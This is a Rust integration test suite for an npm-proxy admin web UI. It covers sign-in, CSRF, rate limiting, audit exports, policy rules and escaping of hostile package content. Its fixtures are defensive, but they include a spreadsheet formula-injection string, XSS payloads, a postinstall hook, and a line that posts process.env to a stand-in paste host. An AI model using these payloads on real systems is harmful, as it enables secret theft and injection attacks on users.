//! The admin web UI end to end: sign-in, sessions, CSRF and the rate limit over HTTP,
//! and the review flow in real headless Chromium (tests/browser/admin_ui.mjs) on the
//! postmark-mcp scenario, followed by the real npm installing what was approved.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use airlock_tests::clients::npm_in;
use airlock_tests::forge::{FakeForge, GitRepository};
use airlock_tests::scenarios::{MAIL_PACKAGE, MailWorld, mail_version, malicious_mail_source};
use airlock_tests::{FakeRegistry, PackageVersion, TestApp, TestAppOptions, long_ago};

const PACKAGE: &str = MAIL_PACKAGE;
/// A second held package, to reject.
const OTHER: &str = "sneaky-mailer";
const ADMIN: &str = "ana";
const PASSWORD: &str = "correct horse battery staple";

fn malicious_source() -> String {
    malicious_mail_source("phan@giftshop.club")
}

struct Scenario {
    _upstream: FakeRegistry,
    _forge: FakeForge,
    _repository: GitRepository,
    app: TestApp,
    _data_dir: tempfile::TempDir,
}

/// The postmark-mcp scenario (see quarantine.rs): fifteen clean versions from a
/// repository on a fake forge, then 1.0.16 with a hidden BCC line, held; plus a second
/// held package; and an admin user created the way `airlock admin add-user` does.
async fn held_scenario(extra_toml: &str) -> Scenario {
    let MailWorld { upstream, forge, repository } = MailWorld::start().await;
    upstream.publish(
        PackageVersion::new(OTHER, "1.0.0", long_ago())
            .with_manifest(serde_json::json!({"description": "Mail helper"}))
            .with_file("index.js", malicious_source().as_bytes()),
    );
    let data_dir = tempfile::tempdir().unwrap();
    let hash = airlock_server::admin_users::hash_password(PASSWORD).unwrap();
    airlock_server::admin_users::add_user(data_dir.path(), ADMIN, &hash).unwrap();
    let options = TestAppOptions {
        forge_url: Some(forge.api_url()),
        extra_toml: extra_toml.to_owned(),
        ..TestAppOptions::default()
    };
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), options).await;
    let (_, body) = app.get_json(&format!("/{PACKAGE}")).await;
    assert_eq!(body["dist-tags"]["latest"], "1.0.15");
    assert_eq!(app.wait_for_decision(PACKAGE, "1.0.15").await["state"], "released");
    upstream.publish(mail_version("1.0.16", malicious_source(), chrono::Utc::now()));
    app.clock.advance(Duration::from_secs(6 * 60));
    app.get_json(&format!("/{PACKAGE}")).await;
    assert_eq!(app.wait_for_decision(PACKAGE, "1.0.16").await["state"], "held");
    app.get_json(&format!("/{OTHER}")).await;
    assert_eq!(app.wait_for_decision(OTHER, "1.0.0").await["state"], "held");
    Scenario { _upstream: upstream, _forge: forge, _repository: repository, app, _data_dir: data_dir }
}

/// A cookie-keeping HTTP client that does not follow redirects, like a browser without
/// JavaScript.
struct Client {
    app_url: String,
    http: reqwest::Client,
    cookies: HashMap<String, String>,
    /// Sent as `X-Forwarded-For`, as a proxy in front of Airlock would.
    forwarded_for: Option<String>,
}

struct Page {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: String,
}

impl Client {
    fn new(app: &TestApp) -> Client {
        let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
        Client { app_url: app.url(), http, cookies: HashMap::new(), forwarded_for: None }
    }

    async fn send(&mut self, request: reqwest::RequestBuilder) -> Page {
        let cookie = self.cookies.iter().map(|(key, value)| format!("{key}={value}")).collect::<Vec<_>>().join("; ");
        let mut request = request.header("cookie", cookie);
        if let Some(address) = &self.forwarded_for {
            request = request.header("x-forwarded-for", address);
        }
        let response = request.send().await.unwrap();
        for value in response.headers().get_all("set-cookie") {
            let text = value.to_str().unwrap();
            let (pair, _) = text.split_once(';').unwrap_or((text, ""));
            let (key, value) = pair.split_once('=').unwrap();
            if value.is_empty() {
                self.cookies.remove(key);
            } else {
                self.cookies.insert(key.to_owned(), value.to_owned());
            }
        }
        Page {
            status: response.status().as_u16(),
            headers: response.headers().clone(),
            body: response.text().await.unwrap(),
        }
    }

    async fn get(&mut self, path: &str) -> Page {
        let request = self.http.get(format!("{}{path}", self.app_url));
        self.send(request).await
    }

    async fn post(&mut self, path: &str, form: &[(&str, &str)]) -> Page {
        let body = form.iter().map(|(key, value)| format!("{key}={}", encode(value))).collect::<Vec<_>>().join("&");
        let request = self
            .http
            .post(format!("{}{path}", self.app_url))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body);
        self.send(request).await
    }

    async fn sign_in(&mut self, name: &str, password: &str) -> Page {
        let form = self.get("/-/airlock/admin/sign-in").await;
        let csrf = hidden_csrf(&form.body);
        self.post("/-/airlock/admin/sign-in", &[("csrf", &csrf), ("name", name), ("password", password)]).await
    }
}

fn encode(value: &str) -> String {
    value
        .bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { (byte as char).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

fn hidden_csrf(html: &str) -> String {
    let marker = r#"name="csrf" value=""#;
    let start = html.find(marker).unwrap_or_else(|| panic!("no CSRF field in:\n{html}")) + marker.len();
    html[start..].split('"').next().unwrap().to_owned()
}

#[tokio::test]
async fn sign_in_sessions_and_csrf_protect_every_action() {
    let scenario = held_scenario("").await;
    let app = &scenario.app;
    let mut client = Client::new(app);

    // Signed out: pages redirect to the sign-in form, actions are refused.
    let queue = client.get("/-/airlock/admin/").await;
    assert_eq!(queue.status, 303);
    assert_eq!(queue.headers["location"], "/-/airlock/admin/sign-in");
    let action = client
        .post("/-/airlock/admin/action", &[("package", PACKAGE), ("version", "1.0.16"), ("action", "approve")])
        .await;
    assert_eq!(action.status, 403);

    // Every page carries the security headers.
    let form = client.get("/-/airlock/admin/sign-in").await;
    assert_eq!(form.status, 200);
    let csp = form.headers["content-security-policy"].to_str().unwrap();
    assert!(
        csp.contains("script-src 'self'") && !csp.contains("unsafe-inline") && csp.contains("frame-ancestors 'none'"),
        "{csp}"
    );
    assert_eq!(form.headers["x-content-type-options"], "nosniff");
    assert_eq!(form.headers["x-frame-options"], "DENY");
    assert_eq!(form.headers["referrer-policy"], "same-origin");

    // A sign-in without the form's token is refused even with the right password.
    let forged = client.post("/-/airlock/admin/sign-in", &[("name", ADMIN), ("password", PASSWORD)]).await;
    assert_eq!(forged.status, 403);
    assert!(!client.cookies.contains_key("airlock_admin_session"));

    // A wrong password is refused; the right one starts a session.
    assert_eq!(client.sign_in(ADMIN, "wrong password").await.status, 401);
    let signed_in = client.sign_in(ADMIN, PASSWORD).await;
    assert_eq!(signed_in.status, 303, "{}", signed_in.body);
    let cookie = signed_in
        .headers
        .get_all("set-cookie")
        .iter()
        .map(|value| value.to_str().unwrap().to_owned())
        .find(|value| value.starts_with("airlock_admin_session="));
    let cookie = cookie.expect("a session cookie");
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict") && cookie.contains("Path=/-/airlock/admin"),
        "{cookie}"
    );
    assert!(!cookie.contains("Secure"), "plain http in tests: {cookie}");

    // The queue lists the held versions first.
    let queue = client.get("/-/airlock/admin/").await;
    assert_eq!(queue.status, 200);
    let held_section = queue.body.split("<h2>Cooling").next().unwrap();
    assert!(
        held_section.contains(">mail-mcp<")
            && held_section.contains(">1.0.16<")
            && held_section.contains(">sneaky-mailer<")
    );
    let filtered = client.get("/-/airlock/admin/?state=held&package=sneaky").await;
    assert!(filtered.body.contains(">sneaky-mailer<") && !filtered.body.contains(">mail-mcp<"));
    let csrf = hidden_csrf(&queue.body);

    // Actions need the session's CSRF token and a comment.
    let target = [("package", PACKAGE), ("version", "1.0.16")];
    let no_token =
        client.post("/-/airlock/admin/action", &[target[0], target[1], ("action", "reject"), ("comment", "x")]).await;
    assert_eq!(no_token.status, 403);
    let wrong_token = client
        .post(
            "/-/airlock/admin/action",
            &[("csrf", "forged"), target[0], target[1], ("action", "reject"), ("comment", "x")],
        )
        .await;
    assert_eq!(wrong_token.status, 403);
    let no_comment = client
        .post(
            "/-/airlock/admin/action",
            &[("csrf", &csrf), target[0], target[1], ("action", "reject"), ("comment", " ")],
        )
        .await;
    assert_eq!(no_comment.status, 400);
    assert!(no_comment.body.contains("A comment is required"));
    assert_eq!(app.admin_get(&format!("/-/airlock/api/packages/{PACKAGE}/versions/1.0.16")).await.1["state"], "held");

    let rejected = client
        .post(
            "/-/airlock/admin/action",
            &[
                ("csrf", &csrf),
                ("package", OTHER),
                ("version", "1.0.0"),
                ("action", "reject"),
                ("comment", "=cmd|' /C calc'!A0"),
            ],
        )
        .await;
    assert_eq!(rejected.status, 303, "{}", rejected.body);
    assert_eq!(
        rejected.headers["location"],
        "/-/airlock/admin/version?package=sneaky-mailer&version=1.0.0&done=reject"
    );
    let detail = app.admin_get(&format!("/-/airlock/api/packages/{OTHER}/versions/1.0.0")).await.1;
    assert_eq!(detail["state"], "rejected");
    assert_eq!(detail["decided_by"], "admin:ana");

    // The audit exports: JSON lines, and CSV whose cells cannot be formulas.
    let jsonl = client.get("/-/airlock/admin/audit.jsonl?actor=admin:ana").await;
    let events: Vec<serde_json::Value> = jsonl.body.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(events.len(), 1, "{}", jsonl.body);
    assert_eq!(events[0]["action"], "reject");
    let csv = client.get("/-/airlock/admin/audit.csv?actor=admin:ana").await;
    assert!(csv.body.contains(r#""'=cmd|' /C calc'!A0""#), "{}", csv.body);

    // Policy rules added here are audited and apply at once.
    let policy = client.get("/-/airlock/admin/policy").await;
    let csrf = hidden_csrf(&policy.body);
    let added = client
        .post(
            "/-/airlock/admin/policy/add",
            &[
                ("csrf", &csrf),
                ("kind", "deny"),
                ("package", "mail-mcp"),
                ("versions", "1.0.15"),
                ("reason", "test deny"),
            ],
        )
        .await;
    assert_eq!(added.status, 303, "{}", added.body);
    let (status, _) = app.get_json(&format!("/{PACKAGE}/-/{PACKAGE}-1.0.15.tgz")).await;
    assert_eq!(status, 403, "a deny rule added in the UI stops the tarball");
    let policy = client.get("/-/airlock/admin/policy").await;
    assert!(policy.body.contains("test deny"));
    let rule_id = policy.body.split(r#"name="id" value=""#).nth(1).unwrap().split('"').next().unwrap().to_owned();
    let removed = client.post("/-/airlock/admin/policy/remove", &[("csrf", &csrf), ("id", &rule_id)]).await;
    assert_eq!(removed.status, 303);
    assert_eq!(app.get(&format!("/{PACKAGE}/-/{PACKAGE}-1.0.15.tgz")).await.status(), 200);
    let audit = client.get("/-/airlock/admin/audit?action=policy-add").await;
    assert!(audit.body.contains("deny mail-mcp@1.0.15: test deny"), "{}", audit.body);

    // Sign-out ends the session server-side: the old cookie no longer works.
    let session = client.cookies["airlock_admin_session"].clone();
    assert_eq!(client.post("/-/airlock/admin/sign-out", &[("csrf", &csrf)]).await.status, 303);
    client.cookies.insert("airlock_admin_session".into(), session);
    assert_eq!(client.get("/-/airlock/admin/").await.status, 303);
}

#[tokio::test]
async fn wrong_passwords_slow_their_source_down_but_never_lock_out_the_admin() {
    let hash = airlock_server::admin_users::hash_password("configured password").unwrap();
    let upstream = FakeRegistry::start().await;
    let data_dir = tempfile::tempdir().unwrap();
    let extra = format!("[[admin.users]]\nname = \"ops\"\npassword_hash = \"{hash}\"\n");
    // Everyone reaches Airlock through one proxy (here: loopback), which says who they are.
    let options = TestAppOptions {
        extra_toml: extra,
        server_toml: "trusted_proxies = [\"127.0.0.1\"]".into(),
        ..TestAppOptions::default()
    };
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), options).await;
    let mut attacker = Client::new(&app);
    attacker.forwarded_for = Some("203.0.113.66".into());
    for _ in 0..5 {
        assert_eq!(attacker.sign_in("ops", "guess").await.status, 401);
    }
    // The guessing address backs off, doubling with every further failure...
    let refused = attacker.sign_in("ops", "configured password").await;
    assert_eq!(refused.status, 429);
    assert!(
        refused.body.contains("Too many failed sign-ins from your address. Try again in 1 second."),
        "{}",
        refused.body
    );
    app.clock.advance(Duration::from_secs(1));
    assert_eq!(attacker.sign_in("ops", "guess").await.status, 401);
    assert!(attacker.sign_in("ops", "guess").await.body.contains("Try again in 2 seconds."));

    // ...while the admin, behind the same proxy, signs in at once with the password.
    let mut admin = Client::new(&app);
    admin.forwarded_for = Some("192.0.2.10".into());
    assert_eq!(admin.sign_in("ops", "configured password").await.status, 303);
    assert_eq!(admin.get("/-/airlock/admin/keys").await.status, 200);

    // A forged X-Forwarded-For to the left of the proxy's entry buys the attacker nothing.
    attacker.forwarded_for = Some("192.0.2.10, 203.0.113.66".into());
    assert_eq!(attacker.sign_in("ops", "guess").await.status, 429);
}

#[tokio::test]
async fn wrong_admin_tokens_are_throttled_per_source() {
    let upstream = FakeRegistry::start().await;
    let data_dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), TestAppOptions::default()).await;
    let guess =
        |token: &'static str| app.client.get(format!("{}/-/airlock/api/versions", app.url())).bearer_auth(token).send();
    for _ in 0..5 {
        assert_eq!(guess("guess").await.unwrap().status(), 403);
    }
    let throttled = guess("guess").await.unwrap();
    assert_eq!(throttled.status(), 429);
    assert_eq!(throttled.headers()["retry-after"], "1");
    // The backoff holds even for the right token from the guessing source, until it ends.
    assert_eq!(guess(airlock_tests::ADMIN_TOKEN).await.unwrap().status(), 429);
    app.clock.advance(Duration::from_secs(1));
    assert_eq!(guess(airlock_tests::ADMIN_TOKEN).await.unwrap().status(), 200);
    // A correct token clears the source's record.
    assert_eq!(guess("guess").await.unwrap().status(), 403);
}

#[tokio::test]
async fn hostile_package_content_renders_as_text() {
    let upstream = FakeRegistry::start().await;
    let payload = "</pre><script>alert(1)</script>";
    let code = format!(
        "const data = JSON.stringify(process.env);\nfetch('https://paste.example/{payload}', {{ method: 'POST', body: data }});\n"
    );
    upstream.publish(
        PackageVersion::new("hostile-readme", "1.0.0", long_ago())
            .with_manifest(serde_json::json!({"description": payload, "scripts": {"postinstall": format!("node -e \"{payload}\"")}}))
            .with_file("index.js", code.as_bytes())
            .with_file("README.md", format!("# Hello\n{payload}\n").as_bytes())
            .with_file("lib/<img src=x onerror=alert(2)>.js", payload.as_bytes()),
    );
    let data_dir = tempfile::tempdir().unwrap();
    let hash = airlock_server::admin_users::hash_password(PASSWORD).unwrap();
    airlock_server::admin_users::add_user(data_dir.path(), ADMIN, &hash).unwrap();
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), TestAppOptions::default()).await;
    app.get_json("/hostile-readme").await;
    let detail = app.wait_for_decision("hostile-readme", "1.0.0").await;
    let findings = detail["checks"]["report"]["findings"].as_array().cloned().unwrap_or_default();
    assert!(
        findings.iter().any(|finding| finding.to_string().contains("<script>")),
        "the payload reaches a finding: {detail:#}"
    );
    let mut client = Client::new(&app);
    assert_eq!(client.sign_in(ADMIN, PASSWORD).await.status, 303);
    for path in [
        "/-/airlock/admin/version?package=hostile-readme&version=1.0.0",
        "/-/airlock/admin/",
        "/-/airlock/admin/package?package=hostile-readme",
        "/-/airlock/admin/audit",
    ] {
        let page = client.get(path).await;
        assert_eq!(page.status, 200, "{path}");
        assert!(
            !page.body.contains("<script>alert") && !page.body.contains("<img src=x"),
            "{path} renders markup:\n{}",
            page.body
        );
        assert_eq!(page.body.matches("<script").count(), 1, "{path}: only the external script");
    }
    let detail_page = client.get("/-/airlock/admin/version?package=hostile-readme&version=1.0.0").await;
    assert!(detail_page.body.contains("&#60;script&#62;alert(1)&#60;/script&#62;"), "{}", detail_page.body);
    // A hostile value in the query is reflected only as escaped text.
    let missing = client.get("/-/airlock/admin/version?package=%3Cscript%3Ealert(1)%3C/script%3E&version=1.0.0").await;
    assert_eq!(missing.status, 400);
    assert!(!missing.body.contains("<script>alert"));
}

fn browser_directory() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("browser")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_admin_reviews_approves_and_rejects_in_chromium() {
    let chromium = std::env::var("CHROMIUM").unwrap_or_else(|_| "/usr/bin/chromium".into());
    assert!(
        Path::new(&chromium).exists(),
        "Chromium is required for the admin UI browser test: apt-get install -y chromium (or set CHROMIUM)"
    );
    assert!(
        browser_directory().join("node_modules/playwright-core").exists(),
        "playwright-core is required for the admin UI browser test: (cd tests/browser && npm ci)"
    );
    let scenario = held_scenario("").await;
    let app = &scenario.app;
    let artifacts = Path::new(env!("CARGO_MANIFEST_DIR")).join("artifacts");
    let url = app.url();
    let script = browser_directory().join("admin_ui.mjs");
    let output = tokio::task::spawn_blocking(move || {
        Command::new("node")
            .arg(script)
            .env("AIRLOCK_URL", url)
            .env("AIRLOCK_ADMIN_NAME", ADMIN)
            .env("AIRLOCK_ADMIN_PASSWORD", PASSWORD)
            .env("AIRLOCK_APPROVE", format!("{PACKAGE}@1.0.16"))
            .env("AIRLOCK_REJECT", format!("{OTHER}@1.0.0"))
            .env("AIRLOCK_ARTIFACTS", artifacts)
            .env("CHROMIUM", chromium)
            .output()
            .expect("node must be installed to run the browser test")
    })
    .await
    .unwrap();
    assert!(
        output.status.success(),
        "the browser test failed:\n{}\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    let seen: serde_json::Value = serde_json::from_slice(&output.stdout).expect("the browser test's report");
    assert_eq!(seen["wrong_password_status"], 401);
    assert_eq!(seen["csrf_refused"], serde_json::json!([403, 403]));

    // Approved in the browser: npm installs it.
    let detail = app.admin_get(&format!("/-/airlock/api/packages/{PACKAGE}/versions/1.0.16")).await.1;
    assert_eq!(detail["state"], "released", "{detail:#}");
    assert_eq!(detail["decided_by"], "admin:ana");
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    std::fs::write(project.path().join("package.json"), r#"{"name":"consumer","version":"1.0.0","private":true}"#)
        .unwrap();
    let install =
        npm_in(project.path(), home.path(), &format!("{}/", app.url()), &["install", &format!("{PACKAGE}@1.0.16")]);
    assert!(
        install.status.success(),
        "npm install of the approved version failed:\n{}",
        String::from_utf8_lossy(&install.stderr)
    );
    let installed = std::fs::read_to_string(project.path().join("node_modules/mail-mcp/index.js")).unwrap();
    assert!(installed.contains("bcc: 'phan@giftshop.club'"));

    // Rejected in the browser: npm is refused.
    let refused =
        npm_in(project.path(), home.path(), &format!("{}/", app.url()), &["install", &format!("{OTHER}@1.0.0")]);
    assert!(!refused.status.success(), "npm installed a rejected version");
    assert_eq!(app.get(&format!("/{OTHER}/-/{OTHER}-1.0.0.tgz")).await.status(), 403);
}

/// The page of a held version shows the code around its findings and the file diff
/// from what the check kept, so a view never decompresses a tarball (a decompression
/// bomb's page cost a gigabyte per view). See issue 10.
#[tokio::test]
async fn the_version_page_shows_code_and_diffs_kept_by_the_check_without_the_tarballs() {
    let mut scenario = held_scenario("").await;
    // With the tarballs gone and the upstream down, nothing can be re-read.
    std::fs::remove_dir_all(scenario._data_dir.path().join("blobs/sha512")).unwrap();
    scenario._upstream.stop();
    let mut client = Client::new(&scenario.app);
    assert_eq!(client.sign_in(ADMIN, PASSWORD).await.status, 303);
    let page = client.get(&format!("/-/airlock/admin/version?package={PACKAGE}&version=1.0.16")).await;
    assert_eq!(page.status, 200);
    let bcc_lines = page.body.matches("phan@giftshop.club").count();
    // Once in the finding's message, once in the code around it, once in the diff.
    assert!(bcc_lines >= 3, "{}", page.body);
    assert!(page.body.contains("class=\"add\""), "the diff is shown: {}", page.body);
    assert!(!page.body.contains("File diffs are unavailable"), "{}", page.body);
}
